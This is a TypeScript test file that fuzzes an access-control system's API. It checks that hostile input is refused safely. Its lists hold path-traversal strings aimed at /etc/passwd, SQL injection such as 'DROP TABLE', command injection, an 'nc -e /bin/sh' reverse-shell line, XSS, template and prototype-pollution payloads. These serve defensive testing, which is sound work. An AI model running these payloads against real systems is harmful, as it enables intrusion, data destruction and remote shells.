import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type ApiForTests, apiForTests } from "./support/api-for-tests.ts";

let api: ApiForTests;
let cookie = "";
beforeAll(async () => {
  api = await apiForTests();
  cookie = await api.logIn();
});
afterAll(() => api[Symbol.asyncDispose]());

describe("T5: a path that climbs", () => {
  const climbs = [
    "..",
    "%2e%2e",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%5c..%5cwindows%5cwin.ini",
    "....//....//etc/passwd",
    "%252e%252e%252fetc%252fpasswd",
    "%00",
    "a%00.jpg",
    "%2fetc%2fpasswd",
    "..;/etc/passwd",
    "%c0%ae%c0%ae/etc/passwd",
    "%ff",
    "%",
    "file:%2f%2f%2fetc%2fpasswd",
    `${"a".repeat(63)}%2f`,
    "a".repeat(5000),
  ];
  const places = [
    (climb: string) => `/${climb}`,
    (climb: string) => `/assets/${climb}`,
    (climb: string) => `/api/v1/evidence/${climb}`,
    (climb: string) => `/api/v1/cardholders/${climb}`,
    (climb: string) => `/api/v1/cardholders/${climb}/photos/${climb}`,
    (climb: string) => `/api/v1/cardholders/c1/photos/${climb}`,
    (climb: string) => `/api/v1/cameras/${climb}/snapshot`,
    (climb: string) => `/api/v1/simulator/probes/${climb}`,
  ];

  test.each(climbs)("%s reaches nothing", async (climb) => {
    const before = api.services.views.length;
    for (const place of places) {
      const answer = await api.call("GET", place(climb), { cookie });
      expect.soft([400, 404, 414, 503], place(climb).slice(0, 80)).toContain(answer.statusCode);
      expect.soft(answer.body).not.toMatch(/root:|\[fonts\]|ENOENT|node_modules/);
      expect.soft(answer.body).not.toContain(process.cwd());
      // Where nothing is built, 503 is the page that says so.
      if (answer.statusCode === 503) expect.soft(answer.headers["content-type"]).toContain("text/html");
    }
    expect(api.services.views).toHaveLength(before);
  });
});

// One corpus through every field of every body, path and query (T8).
const corpus = [
  "' OR '1'='1' --",
  "'; DROP TABLE journal; --",
  '" UNION SELECT * FROM operators --',
  "1; SELECT pg_sleep(10)",
  "$(reboot)",
  "`id`",
  "; cat /etc/passwd #",
  "| nc -e /bin/sh 10.0.0.1 4444",
  "__proto__",
  "constructor",
  "toString",
  "{{7*7}}",
  // The text a template engine would take for its own.
  "$" + "{7*7}",
  "<%= 7*7 %>",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)",
  "%s%s%s%n",
  "../../etc/passwd",
  "\u0000",
  "a\u0000b",
  "\r\nSet-Cookie: a=b",
  "\u202Egnp.exe",
  "\ud800",
  "👩‍👩‍👧",
  "Ω≈ç√∫",
  "',.;[]-=`\\",
  "A".repeat(10_000),
  "",
  " ",
  "null",
  "-1",
  "1e309",
  "NaN",
];
const shapes: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  [],
  [null],
  {},
  { $ne: null },
  { toString: 1 },
  [["deep"]],
];

interface Target {
  readonly method: string;
  readonly url: string;
  readonly body: Readonly<Record<string, unknown>>;
}

const targets: readonly Target[] = [
  { method: "POST", url: "/api/v1/session", body: { username: "admin", password: "x" } },
  { method: "POST", url: "/api/v1/session/password", body: { current: "x", next: "y" } },
  { method: "POST", url: "/api/v1/alarms/ID/acknowledge", body: { comment: "c" } },
  {
    method: "POST",
    url: "/api/v1/cardholders",
    body: { name: "n", groups: ["g"], accessLevels: ["a"], validFrom: "t", validUntil: "t" },
  },
  {
    method: "PATCH",
    url: "/api/v1/cardholders/ID",
    body: { name: "n", groups: ["g"], accessLevels: ["a"], status: "active", validFrom: "t" },
  },
  { method: "DELETE", url: "/api/v1/cardholders/ID", body: {} },
  { method: "POST", url: "/api/v1/cardholders/ID/cards", body: { number: "1", format: "raw" } },
  { method: "POST", url: "/api/v1/cards/ID/report-lost", body: {} },
  { method: "POST", url: "/api/v1/cards/ID/replace", body: { number: "1" } },
  { method: "POST", url: "/api/v1/simulator/cards", body: { accessPoint: "outer-entry", number: "1" } },
  { method: "POST", url: "/api/v1/simulator/keys", body: { accessPoint: "outer-entry", keys: "1" } },
  { method: "POST", url: "/api/v1/simulator/doors/ID", body: { action: "open" } },
  { method: "PUT", url: "/api/v1/simulator/inputs/ID", body: { active: true } },
  {
    method: "PUT",
    url: "/api/v1/simulator/cameras/ID/scene",
    body: { person: "1", persons: ["1"], frozen: true },
  },
  { method: "POST", url: "/api/v1/simulator/clock", body: { stepSeconds: 1 } },
  { method: "GET", url: "/api/v1/events?type=ID", body: {} },
  { method: "GET", url: "/api/v1/events?cardholder=ID", body: {} },
  { method: "GET", url: "/api/v1/events?after=ID", body: {} },
  { method: "GET", url: "/api/v1/events?limit=ID", body: {} },
  { method: "GET", url: "/api/v1/events?from=ID", body: {} },
  { method: "GET", url: "/api/v1/events?ID=1", body: {} },
  { method: "GET", url: "/api/v1/cardholders?search=ID", body: {} },
  { method: "GET", url: "/api/v1/cardholders?after=ID", body: {} },
];

/** The request with `value` in each of its places, one after another. */
function* filled(target: Target, value: unknown): Generator<{ url: string; body: unknown }> {
  const plain = target.url.replace("ID", "c1");
  for (const key of Object.keys(target.body)) {
    yield { url: plain, body: { ...target.body, [key]: value } };
    if (Array.isArray(target.body[key])) yield { url: plain, body: { ...target.body, [key]: [value] } };
  }
  if (typeof value === "string") {
    if (value.isWellFormed())
      yield { url: target.url.replace("ID", encodeURIComponent(value)), body: target.body };
    yield { url: plain, body: { ...target.body, [value]: value } };
  }
  yield { url: plain, body: value };
}

describe("T8: text that means something elsewhere", () => {
  beforeEach(async () => {
    // The corpus also guesses passwords, and is slowed down for it.
    api.clock.advance(15 * 60_000 + 1);
    cookie = await api.logIn();
  });

  test.each(targets)("$method $url answers it, and never with a fault", async (target) => {
    let asked = 0;
    for (const value of [...corpus, ...shapes]) {
      for (const { url, body } of filled(target, value)) {
        const answer = await api.call(target.method, url, {
          cookie,
          ...(target.method === "GET" ? {} : { body }),
        });
        asked += 1;
        expect
          .soft(answer.statusCode, `${target.method} ${url} ${JSON.stringify(body)}`.slice(0, 200))
          .toBeLessThan(500);
        expect.soft(answer.body).not.toMatch(/at .*\.[jt]s:\d+|node_modules/);
      }
    }
    expect(asked).toBeGreaterThan(corpus.length);
    expect(api.log.filter((entry) => entry.includes('"level":50'))).toEqual([]);
  });

  test.each(corpus)("a cardholder's name %j is stored as it is, or refused", async (name) => {
    const answer = await api.call("POST", "/api/v1/cardholders", { cookie, body: { name } });
    if (answer.statusCode === 400) return;
    expect(answer.statusCode).toBe(201);
    const { id } = answer.json<{ id: string }>();
    expect(api.services.directory.get(id)?.name).toBe(name);
    expect((await api.call("GET", `/api/v1/cardholders/${id}`, { cookie })).json()).toMatchObject({ name });
  });

  test("most of the corpus are names that somebody could have, and are taken", async () => {
    const answers = await Promise.all(
      corpus.map((name) => api.call("POST", "/api/v1/cardholders", { cookie, body: { name } })),
    );
    expect(answers.filter(({ statusCode }) => statusCode === 201).length).toBeGreaterThan(20);
  });

  test.each([
    '{"name":"x","__proto__":{"admin":true}}',
    '{"name":"x","constructor":{"prototype":{"admin":true}}}',
  ])("%s pollutes nothing", async (body) => {
    const headers = { "content-type": "application/json" };
    const answer = await api.call("POST", "/api/v1/cardholders", { cookie, body, headers });
    expect(answer.statusCode).toBe(400);
    expect(Object.prototype).not.toHaveProperty("admin");
  });
});

describe("a request that does not fit", () => {
  test("is told every place where it does not, and what was expected", async () => {
    const body = { name: "", groups: "manager", surprise: 1 };
    const answer = await api.call("POST", "/api/v1/cardholders", { cookie, body });
    expect(answer.statusCode).toBe(400);
    expect(answer.headers["content-type"]).toBe("application/problem+json; charset=utf-8");
    const problem = answer.json<{ errors: { path: string; expected: string }[] }>();
    expect(problem).toMatchObject({
      type: "urn:vestibule:problem:invalid-request",
      status: 400,
      instance: "/api/v1/cardholders",
      code: "invalid-request",
    });
    expect(problem.errors.map(({ path }) => path)).toEqual(expect.arrayContaining(["/name", "/groups"]));
    expect(problem.errors.map(({ expected }) => expected).join()).toContain("surprise");
  });

  test.each([
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/xml",
  ])("a body sent as %s is not taken", async (type) => {
    const headers = { "content-type": type };
    const answer = await api.call("POST", "/api/v1/cardholders", { cookie, headers, body: '{"name":"x"}' });
    expect(answer.statusCode).toBe(415);
    expect(answer.json<{ detail: string }>().detail).toContain("application/json");
  });

  test.each([
    "{",
    "[1,",
    '"',
    "{'a':1}",
    "[".repeat(30_000),
    `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`,
  ])("T6: JSON that is broken or bottomless is refused", async (body) => {
    const headers = { "content-type": "application/json" };
    expect((await api.call("POST", "/api/v1/cardholders", { cookie, headers, body })).statusCode).toBe(400);
  });

  test("T6: JSON beyond 64 KiB is refused", async () => {
    const answer = await api.call("POST", "/api/v1/cardholders", {
      cookie,
      body: { name: "x".repeat(70_000) },
    });
    expect(answer.statusCode).toBe(413);
  });
});
